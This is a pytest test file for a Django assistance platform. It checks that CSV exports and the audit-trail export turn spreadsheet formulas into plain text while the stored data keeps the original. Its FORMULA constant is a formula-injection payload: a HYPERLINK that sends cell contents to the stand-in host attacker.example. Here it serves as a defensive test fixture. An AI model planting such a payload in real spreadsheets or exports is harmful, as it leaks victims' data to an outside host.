"""The assistance exports, and the audit trail's, in a spreadsheet: text typed as a formula
comes out as text, while the data keeps what was typed."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from smallarms.assistance.models import Need
from smallarms.assistance.services import calls, matches, offers, projects
from smallarms.conftest import verified_login

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Open")'
NEUTRALIZED = "'" + FORMULA


def rows(response):
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def formula_need(make_need):
    return make_need(title=FORMULA)


def test_a_need_title_typed_as_a_formula_is_text_in_the_export(client, formula_need):
    assert rows(client.get(reverse("assistance:need_export")))[0]["title"] == NEUTRALIZED
    assert Need.objects.get(pk=formula_need.pk).title == FORMULA
    api = client.get(reverse("api:need-list")).json()
    assert api["results"][0]["title"] == FORMULA


def test_an_offer_title_typed_as_a_formula_is_text_in_the_export(
    client, provider_norway, norway, offer_data
):
    offers.create_offer(acting_user=provider_norway, state=norway, **offer_data(title=FORMULA))
    assert rows(client.get(reverse("assistance:offer_export")))[0]["title"] == NEUTRALIZED


def test_a_match_of_a_need_typed_as_a_formula_is_text_in_the_export(
    client, formula_need, offer, provider_norway
):
    matches.propose_match(
        acting_user=provider_norway, need=formula_need, offer=offer, message="We can help."
    )
    verified_login(client, provider_norway)
    assert rows(client.get(reverse("assistance:match_export")))[0]["need_title"] == NEUTRALIZED


def test_a_project_title_typed_as_a_formula_is_text_in_the_export(
    client, accepted, provider_norway
):
    projects.record_project(
        acting_user=provider_norway,
        match=accepted,
        title=FORMULA,
        budget_amount=Decimal("100000"),
        currency="USD",
        status="ongoing",
    )
    (row,) = rows(client.get(reverse("assistance:project_export")))
    assert (row["title"], row["budget_amount"]) == (NEUTRALIZED, "100000.00")


def test_a_funding_call_title_typed_as_a_formula_is_text_in_the_export(
    client, provider_unrcpd, unrcpd
):
    calls.open_call(
        acting_user=provider_unrcpd,
        organization=unrcpd,
        title=FORMULA,
        aims="Help States mark their weapons.",
        deadline=datetime.date.today() + datetime.timedelta(days=365),
        budget_amount=Decimal(500000),
        criteria=[("Relevance to the needs", 1)],
    )
    assert rows(client.get(reverse("assistance:call_export")))[0]["title"] == NEUTRALIZED


def test_a_need_title_typed_as_a_formula_is_text_in_the_audit_trail_export(
    client, formula_need, secretariat
):
    verified_login(client, secretariat)
    exported = rows(client.get(reverse("audit:entry_export"), {"event": "need_posted"}))
    assert [row["object"] for row in exported] == [NEUTRALIZED]
